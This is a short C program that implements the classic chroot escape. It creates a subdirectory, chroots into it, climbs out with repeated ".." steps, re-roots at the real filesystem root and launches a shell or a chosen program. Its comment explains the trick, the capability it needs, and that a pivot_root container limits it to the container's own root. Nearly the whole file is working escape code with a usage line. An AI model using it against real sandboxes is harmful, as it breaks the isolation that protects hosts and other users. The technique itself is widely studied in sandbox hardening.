/* Climb out of a chroot. chroot() changes only where a process's "/" is; it does not move the
 * current directory. So: make a subdirectory the root while our working directory stays above it,
 * walk up with "..", which nothing now stops at the old root, and make whatever we reach the root.
 * After pivot_root with the old root detached, the walk ends at the container's own /.
 *
 * usage: escape_chroot [PROGRAM ARG...]   (runs PROGRAM, default /bin/sh, in the root it reached)
 */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    mkdir("escape-hatch", 0700);
    if (chroot("escape-hatch") != 0) {
        perror("chroot escape-hatch (needs CAP_SYS_CHROOT)");
        return 1;
    }
    for (int i = 0; i < 64; i++)
        if (chdir("..") != 0)
            break;
    if (chroot(".") != 0) {
        perror("chroot .");
        return 1;
    }
    char *shell[] = {"/bin/sh", NULL};
    char **command = argc > 1 ? argv + 1 : shell;
    execv(command[0], command);
    perror("exec");
    return 127;
}
